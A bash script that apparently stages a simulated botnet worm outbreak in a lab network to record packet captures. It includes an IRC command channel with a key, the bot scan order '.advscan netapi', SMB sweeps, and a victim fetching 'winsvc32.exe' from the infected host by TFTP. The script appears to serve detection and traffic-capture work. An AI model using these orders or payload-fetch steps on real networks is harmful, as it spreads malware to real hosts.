# shellcheck shell=bash
# The whole story: orders by IRC, a sweep, a victim that fetches the body, and sweeps.

# The channel where the orders are, and how it is joined.
CHANNEL='#netapi'
KEY='k3yl0ck'

# A management server looks into sixty hosts, the later victim among them. A workstation
# (10.20.0.66) gets its orders, sweeps 150 addresses, and writes to those that answered;
# one of them (10.20.0.24) fetches the body from it by TFTP, registers, and sweeps as well.
record_story() {
	local i
	office 4
	farms
	outside
	host manager br0 10.20.0.9
	host infected br0 10.20.0.66
	host orders br3 203.0.113.66
	for i in 22 23 24; do
		host "desk$i" br0 "10.20.0.$i"
		samba "desk$i" "DESK$i"
	done
	ngircd_on orders 4915 "" "$CHANNEL" "$KEY" ".advscan netapi 100 5 0 -b -r -s"
	spread 10.20.8 5 25 10
	spread 10.20.9 5 25 10
	capture core br0 0
	work 4 5 18
	smb desk24 10.20.1.11 SMB3 ls
	manage
	sleep 5
	worm infected 'DEU|XP|483920' 5 10.20.8.1-147 10.20.0.22-24 &
	PIDS+=("$!")
	AWAIT=60 await grep -qs 'Exploiting IP: 10.20.0.24' "$TMP/worm.infected"
	sleep 2
	enter desk24 curl -s --tftp-no-options -o /dev/null tftp://10.20.0.66/winsvc32.exe
	smb manager 10.20.0.24 SMB3 ls
	smb desk22 10.20.1.12 SMB3 ls # was written to as well, and works on
	sleep 20
	worm desk24 'FRA|2K|017365' 10 10.20.9.1-150 &
	PIDS+=("$!")
	AWAIT=60 await grep -qs 'addresses done' "$TMP/worm.desk24"
	rest
	captured 3
	keep "$TMP/live.pcap" story.pcap.gz
}

# manage: the management server tries sixty addresses, and lists the share of the victim.
manage() {
	enter manager nmap -n -Pn -sT -p445 --max-retries 0 10.20.8.1-57 10.20.0.22-24 >/dev/null
	smb manager 10.20.0.24 SMB3 "ls; get report1.txt /dev/null"
}

# worm HOST NICK SECONDS TARGET...: an infected host registers, takes the order of the topic,
# and sweeps that many seconds later. What it reports is in $TMP/worm.HOST.
worm() {
	local host=$1 nick=$2 hesitate=$3
	shift 3
	bot "$host" "$nick" 203.0.113.66 4915 "$CHANNEL $KEY" --stay 300 --hesitate "$hesitate" \
		--obey "python3 $HERE/actors/worm.py --knock --serve --stay 100 $*" \
		>"$TMP/worm.$host"
}
